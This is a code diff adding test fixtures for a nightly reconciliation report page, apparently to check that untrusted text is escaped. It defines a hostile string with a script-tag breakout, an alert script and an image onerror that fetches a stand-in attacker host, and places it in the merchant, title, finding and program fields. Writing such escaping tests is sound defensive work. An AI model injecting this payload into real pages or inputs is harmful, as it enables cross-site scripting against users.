@@ -100,3 +100,70 @@ export function expectPageOfRecord(path: string, record: RunSummary, nightsOnRec
   } else expect(page.html).toContain('This is the first night on record.');
   return page;
 }
+
+/** Text that reads as markup, a script and a request, where a service or a setting gives text. */
+export const HOSTILE = `</script><script>alert(1)</script><img src=x onerror="fetch('https://evil.example')">&amp;`;
+
+/** A night's view whose every text from outside is hostile: two nights, one overdue break, a waterfall. */
+export const HOSTILE_VIEW: NightView = {
+  title: `${HOSTILE} — 2026-11-18 09:30 UTC — BREAKS, run 2`,
+  merchant: HOSTILE,
+  merchantId: 'm-1',
+  runId: 2,
+  verdict: 'BREAKS',
+  exitCode: 1,
+  startedAt: '2026-11-18T09:30:00.000Z',
+  asOf: '2026-11-18T09:29:00.000Z',
+  findings: 1,
+  bySeverity: { error: 1, warning: 0, info: 0 },
+  overdue: 1,
+  overdueFindings: [
+    {
+      code: 'GC_BALANCE_MISMATCH',
+      severity: 'error',
+      title: 'Balance does not follow from the ledger',
+      about: `card ${HOSTILE}`,
+      currency: 'USD',
+      atStake: '12.00',
+      firstSeenAt: '2026-11-14T09:30:00.000Z',
+      dueAt: '2026-11-17T09:30:00.000Z',
+    },
+  ],
+  currencies: [{ currency: 'USD', liability: '1234567.89', atStake: '12.00', closes: false, difference: '-12.00' }],
+  trend: [
+    {
+      runId: 1,
+      asOf: '2026-11-17T09:29:00.000Z',
+      verdict: 'RECONCILED',
+      liability: { USD: '1234000.00' },
+      bySeverity: { error: 0, warning: 0, info: 0 },
+    },
+    {
+      runId: 2,
+      asOf: '2026-11-18T09:29:00.000Z',
+      verdict: 'BREAKS',
+      liability: { USD: '1234567.89' },
+      bySeverity: { error: 1, warning: 0, info: 0 },
+    },
+  ],
+  openBreaks: [{ bucket: '3–7 d', breaks: 1, atStake: { USD: '12.00' } }],
+  oldestBreak: {
+    code: 'GC_BALANCE_MISMATCH',
+    title: 'Balance does not follow from the ledger',
+    firstSeenAt: '2026-11-14T09:30:00.000Z',
+    ageHours: 96,
+  },
+  waterfalls: [
+    {
+      currency: 'USD',
+      program: HOSTILE,
+      from: '2026-11-01T00:00:00.000Z',
+      to: '2026-11-18T09:29:00.000Z',
+      steps: [{ label: 'opening', direction: 'total', amount: '1234000.00', from: '0.00', to: '1234000.00' }],
+      difference: '-12.00',
+      closes: false,
+    },
+  ],
+  largest: [],
+  since: null,
+};
